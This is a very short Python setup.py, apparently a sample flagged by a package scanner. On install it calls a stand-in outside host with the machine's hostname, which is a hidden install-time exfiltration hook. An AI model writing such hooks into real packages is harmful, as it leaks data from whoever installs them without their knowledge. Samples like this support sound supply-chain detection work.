import socket
import urllib.request

from setuptools import setup

urllib.request.urlopen("https://c.example.invalid/?h=" + socket.gethostname())  # gatehouse: flagged
setup(name="example", version="1.0.0")
